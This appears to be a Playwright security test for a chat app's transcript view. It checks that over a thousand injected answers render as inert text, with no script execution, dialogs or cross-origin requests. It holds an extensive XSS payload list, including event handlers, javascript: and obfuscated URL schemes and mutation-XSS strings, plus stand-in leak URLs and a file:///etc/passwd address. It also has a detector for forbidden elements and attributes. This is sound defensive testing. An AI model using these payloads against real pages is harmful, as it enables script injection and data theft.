import type { SessionId } from "@boocode/shared/ids";
import type { Page } from "@playwright/test";
import { fillAnswers, fillProject, openHome } from "../bench/fill-home.ts";
import { expect, test, transcript } from "../fixture/journey.ts";

/** What each payload runs, if it runs: the page sees the mark. */
const RUN = "window.marked=1";
/** Where each payload sends something, if it does. Nothing listens there. */
const ELSEWHERE = "http://127.0.0.1:9/leak";

/** Pieces of HTML, SVG and MathML that have run scripts or loaded something in one page or another. */
const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt src="${ELSEWHERE}.js"></sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${ELSEWHERE}.png">`,
  `<img srcset="${ELSEWHERE}.png 2x" onload="${RUN}">`,
  `<image href="${ELSEWHERE}.png" onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="${ELSEWHERE}.svg#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${ELSEWHERE}.swf">`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<video poster="${ELSEWHERE}.png" autoplay></video>`,
  `<audio src="${ELSEWHERE}.mp3" onerror=${RUN} autoplay>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<form action="${ELSEWHERE}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<link rel="stylesheet" href="${ELSEWHERE}.css">`,
  `<link rel="prefetch" href="${ELSEWHERE}">`,
  `<style>@import '${ELSEWHERE}.css'; * { background: url(${ELSEWHERE}.gif) }</style>`,
  `<div style="background:url(${ELSEWHERE}.gif)">x</div>`,
  `<div style="animation:x" onanimationstart=${RUN}>x</div>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="${ELSEWHERE}" ping="${ELSEWHERE}">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<portal src="${ELSEWHERE}"></portal>`,
  `<custom-element onclick=${RUN} is="x">x</custom-element>`,
  `</div></article><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
];

/** Addresses that run something, load something, or leave the page's schemes. */
const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `blob:null/${RUN}`,
  "file:///etc/passwd",
  "//127.0.0.1:9/leak",
  "\\\\127.0.0.1\\leak",
  `view-source:${ELSEWHERE}`,
];

/** Ways to write markup into an answer. */
const AROUND_MARKUP: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `text ${markup} text`,
  (markup) => `- ${markup}`,
  (markup) => `> ${markup}`,
  (markup) => `# ${markup}`,
  (markup) => `| a | b |\n|---|---|\n| ${markup.replaceAll("|", "\\|").replaceAll("\n", " ")} | x |`,
  (markup) => `\`${markup}\``,
  (markup) => `\`\`\`html\n${markup}\n\`\`\``,
  (markup) => `\`\`\`mermaid\ngraph TD; A["${markup}"] --> B\n\`\`\``,
  (markup) => `    ${markup}`,
  (markup) => `**${markup}** and ~~${markup}~~`,
  (markup) => `[${markup}](https://example.com "${markup.replaceAll('"', "'")}")`,
  (markup) => `![${markup}](x.png)`,
  (markup) => `[^1]: ${markup}`,
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => markup.replaceAll("<", "&#60;"),
  (markup) => markup.replaceAll("<", "\\<"),
  (markup) => markup.replace(/</, "<\u0000"),
  (markup) => `$$${markup}$$`,
  (markup) => `<div>\n\n${markup}\n\n</div>`,
  (markup) => `${"x".repeat(300)}${markup}`,
  (markup) => `1. a\n   ${markup}\n   - ${markup}`,
];

/** Ways to write an address into an answer. */
const AROUND_ADDRESSES: readonly ((address: string) => string)[] = [
  (address) => `[a link](${address})`,
  (address) => `[a link](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![an image](${address})`,
  (address) => `[![nested](${address})](${address})`,
  (address) => `[a reference][r]\n\n[r]: ${address}`,
  (address) => `![a reference][r]\n\n[r]: <${address}>`,
  (address) => `[a title](https://example.com "${address}")`,
  (address) => `a bare ${address} in a line`,
  (address) => `| [a cell](${address}) |\n|---|\n| ![x](${address}) |`,
];

const PAYLOADS = [
  ...MARKUP.flatMap((markup) => AROUND_MARKUP.map((around) => around(markup))),
  ...ADDRESSES.flatMap((address) => AROUND_ADDRESSES.map((around) => around(address))),
  ...AROUND_ADDRESSES.slice(3, 7).map((around) => around(`${ELSEWHERE}.png`)),
];
const AN_ANSWER = 20;

/** What a page has done that it must not do. */
async function watch(page: Page, origin: string): Promise<{ elsewhere: string[]; dialogs: string[]; violations(): Promise<string[]> }> {
  const [elsewhere, dialogs]: [string[], string[]] = [[], []];
  page.on("request", (request) => {
    if (!request.url().startsWith(origin) && !/^(?:data|blob):/.test(request.url())) elsewhere.push(request.url());
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { violations: seen });
    document.addEventListener("securitypolicyviolation", (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
  const violations = () =>
    page.evaluate(() => {
      const { violations: seen, marked } = window as unknown as { violations: string[]; marked?: number };
      return marked === undefined ? seen : [...seen, "marked"];
    });
  return { elsewhere, dialogs, violations };
}

/** Elements and attributes that no answer may bring into the page. */
const findForbidden = () => {
  const forbidden =
    "script, iframe, object, embed, form, base, meta, link, style, portal, video, audio, image, math, foreignObject, animate";
  const found: string[] = [];
  for (const element of document.querySelector('[role="log"]')?.querySelectorAll("*") ?? []) {
    if (element.matches(forbidden)) found.push(element.outerHTML.slice(0, 120));
    for (const { name, value } of element.attributes) {
      const isAddress = ["href", "src", "srcset", "action", "formaction", "xlink:href", "ping", "poster", "data"].includes(name);
      const isAllowed = /^(?:https?:|mailto:|#|data:image\/(?:png|gif|jpeg|webp)|\/(?!\/))/.test(value);
      const isOfOurs = name === "src" && !value.startsWith(location.origin) && /^https?:/.test(value);
      if (name.startsWith("on") || name === "srcdoc" || (isAddress && !isAllowed) || isOfOurs) found.push(`${name}=${value}`.slice(0, 120));
    }
  }
  return found;
};

test("S6 a thousand answers that would run or load something are shown as text: nothing runs, and nothing is asked of another origin", async ({
  page,
  home,
}) => {
  test.setTimeout(600_000);
  expect(PAYLOADS.length).toBeGreaterThan(1_200);
  const db = await openHome(home);
  await fillProject(db);
  const sessions: SessionId[] = [];
  const answers = Array.from({ length: Math.ceil(PAYLOADS.length / AN_ANSWER) }, (_, at) =>
    PAYLOADS.slice(at * AN_ANSWER, (at + 1) * AN_ANSWER).join("\n\n"),
  );
  const PER_CHAT = 8;
  for (let at = 0; at < answers.length; at += PER_CHAT) {
    const place = at / PER_CHAT;
    sessions.push(
      await fillAnswers(db, place + 1, [`First words of ${place}.`, ...answers.slice(at, at + PER_CHAT), `Last words of ${place}.`]),
    );
  }
  await db.close();
  const { address, origin } = await home.start();
  const seen = await watch(page, origin);
  await page.goto(address);
  await expect(page.getByRole("navigation", { name: "Sessions" })).toContainText("Answers 1");
  const forbidden: string[] = [];
  for (const [place, sessionId] of sessions.entries()) {
    await page.goto(`${origin}/session/${sessionId}`);
    await expect(transcript(page)).toContainText(`Last words of ${place}.`);
    // Only what is near the window is drawn, so every part of the chat is gone through.
    await transcript(page).hover();
    for (let screen = 0; screen < 60; screen += 1) {
      forbidden.push(...(await page.evaluate(findForbidden)));
      await page.mouse.wheel(0, -700);
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    }
    await expect(transcript(page)).toContainText(`First words of ${place}.`);
    expect([place, await seen.violations()]).toEqual([place, []]);
  }
  expect(forbidden).toEqual([]);
  expect(seen).toMatchObject({ elsewhere: [], dialogs: [] });

  // The control: what is put into the page as markup is stopped by its policy, and is seen here.
  await page.evaluate((markup) => {
    const element = document.createElement("div");
    element.innerHTML = markup;
    document.body.append(element);
  }, MARKUP[4]! + MARKUP[5]!);
  await expect.poll(() => seen.violations()).toEqual(expect.arrayContaining([expect.stringContaining("script-src")]));
});
